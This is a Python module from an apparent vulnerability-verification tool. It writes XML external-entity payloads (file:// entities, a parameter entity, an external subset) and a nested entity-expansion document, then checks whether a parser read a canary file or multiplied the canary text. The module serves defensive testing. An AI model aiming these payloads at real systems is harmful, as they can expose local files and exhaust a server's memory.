"""How external entities show themselves: the parser reads a file that the document names."""

from collections.abc import Mapping

from countermine.core.findings import Finding
from countermine.core.knowledge import WitnessMaker
from countermine.core.spans import TreePath
from countermine.core.witnesses import CANARY, Observation, Witness
from countermine.prove.drive.drive import SCRATCH
from countermine.prove.drive.maker import PlannedMaker
from countermine.prove.drive.making import Plan
from countermine.prove.drive.paths import reached_paths
from countermine.prove.drive.payloads import PROBE, Payload
from countermine.prove.drive.silence import place

_FILE = "outside/secret.txt"
_READ = f"{CANARY}-secret"
GROWTH = 100
"""Times that a document of attack repeats the canary once its entities are put in."""
GROWING = "growing"
"""Begins the name of the attack whose entities make a long text of a short document."""

_HEAD = '<?xml version="1.0"?>\n'
_EXTERNAL = (
    Payload(
        name="external-entity",
        text=f'{_HEAD}<!DOCTYPE r [<!ENTITY e SYSTEM "file://{{base}}/{_FILE}">]><r><i>&e;</i></r>',
        file_name="input.xml",
    ),
    Payload(
        name="external-entity-path",
        text=f'{_HEAD}<!DOCTYPE r [<!ENTITY e SYSTEM "{{base}}/{_FILE}">]><r><i>&e;</i></r>',
        file_name="input.xml",
    ),
    Payload(
        name="parameter-entity",
        text=f'{_HEAD}<!DOCTYPE r [<!ENTITY % e SYSTEM "file://{{base}}/{_FILE}"> %e;]><r/>',
        file_name="input.xml",
    ),
    Payload(
        name="external-subset",
        text=f'{_HEAD}<!DOCTYPE r SYSTEM "file://{{base}}/{_FILE}"><r/>',
        file_name="input.xml",
    ),
)
_GROWING = Payload(
    name=f"{GROWING}-entity",
    text=(
        f'{_HEAD}<!DOCTYPE r [<!ENTITY a "{"{canary}" * 10}"><!ENTITY b "{"&a;" * 10}">]>'
        "<r><i>&b;</i></r>"
    ),
    file_name="input.xml",
)
_CONTROL = Payload(
    name="plain-document",
    text=f"{_HEAD}<r><i>{PROBE}</i></r>",
    file_name="input.xml",
    samples=(".xml",),
)
_NEVER_EXTERNAL = ("xml.etree", "minidom", "expatbuilder")
"""Parsers that never read external entities: with them it is growth that does harm."""
_SELDOM_EXTERNAL = ("xml.sax", "pulldom")
"""Parsers that read them only if they are told to, since Python 3.7.1; others grow all the same."""


def plan(finding: Finding, _texts: Mapping[TreePath, bytes]) -> Plan:
    """Return documents with the entities that the parser may take."""
    if "lxml" in finding.sink:
        return Plan(attacks=(*_EXTERNAL, _GROWING), controls=(_CONTROL,), as_file=True)
    if any(name in finding.sink for name in _NEVER_EXTERNAL):
        return Plan(attacks=(_GROWING,), controls=(_CONTROL,), as_file=True)
    if finding.is_hypothesis and any(name in finding.sink for name in _SELDOM_EXTERNAL):
        # The search looks for parsers that are told to; a claim may mean either.
        return Plan(attacks=(*_EXTERNAL, _GROWING), controls=(_CONTROL,), as_file=True)
    return Plan(attacks=_EXTERNAL, controls=(_CONTROL,), as_file=True)


def _shown(_witness: Witness, seen: Observation, _benign: Observation) -> str | None:
    secret = f"{SCRATCH}/{_FILE}"
    for event in seen.events:
        if secret in reached_paths(event):
            return f"the parser read {secret}, which the document names, {place(event)}"
        text = (event.get("text") or "") + (event.get("body") or "")
        if _READ in text:
            return f"the content of {secret} is in what was parsed, {place(event)}"
        if text.count(CANARY) >= GROWTH:
            return f"entities of the document were put in {text.count(CANARY)} times"
    return None


WITNESS: WitnessMaker = PlannedMaker(plan=plan, shown=_shown)
"""Writes documents with entities, and looks which of them the parser takes."""
